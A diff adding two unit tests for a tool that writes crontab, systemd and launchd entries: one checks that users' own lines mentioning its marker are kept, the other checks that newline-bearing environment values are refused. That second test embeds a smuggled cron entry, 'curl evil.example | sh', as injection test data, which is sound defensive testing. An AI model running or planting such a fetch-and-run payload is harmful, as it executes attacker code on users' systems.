@@ -49,3 +49,20 @@ test('schedule status reads back the --config each scheduler was given, however 
   const none = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a' })
   assert.deepEqual([configInLine(cronLine(none)), configInService(serviceUnit(none)), configInPlist(launchAgentPlist(none))], [null, null, null])
 })
+
+test('a user\'s own line that mentions "# shipshape-doctor " is kept; only the exact marker is shipshape\'s', () => {
+  const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin' }, home: '/home/a' })
+  const mine = '0 3 * * * /home/a/bin/report # shipshape-doctor runs hourly, this one nightly'
+  const also = '0 4 * * * echo done # shipshape-doctor'
+  const merged = mergeCrontab(`${mine}\n${also}\n`, cronLine(spec))
+  assert.equal(merged, `${mine}\n${also}\n${cronLine(spec)}\n`)
+  assert.equal(mergeCrontab(merged, null), `${mine}\n${also}\n`)
+  assert.equal(ourLine(`${mine}\n`), null)
+})
+
+test('a newline in a value baked into the crontab line is refused; it cannot form a second entry', () => {
+  const spec = jobSpec({ every: '1h', env: { PATH: '/usr/bin', DOCKER_HOST: 'unix:///s\n* * * * * curl evil.example | sh' }, home: '/home/a' })
+  assert.throws(() => cronLine(spec), (e: Error) => e instanceof UsageError && /^DOCKER_HOST holds a newline/.test(e.message))
+  const cr = jobSpec({ every: '1h', env: { PATH: '/usr/bin', KUBECONFIG: '/k\r' }, home: '/home/a' })
+  assert.throws(() => cronLine(cr), UsageError)
+})
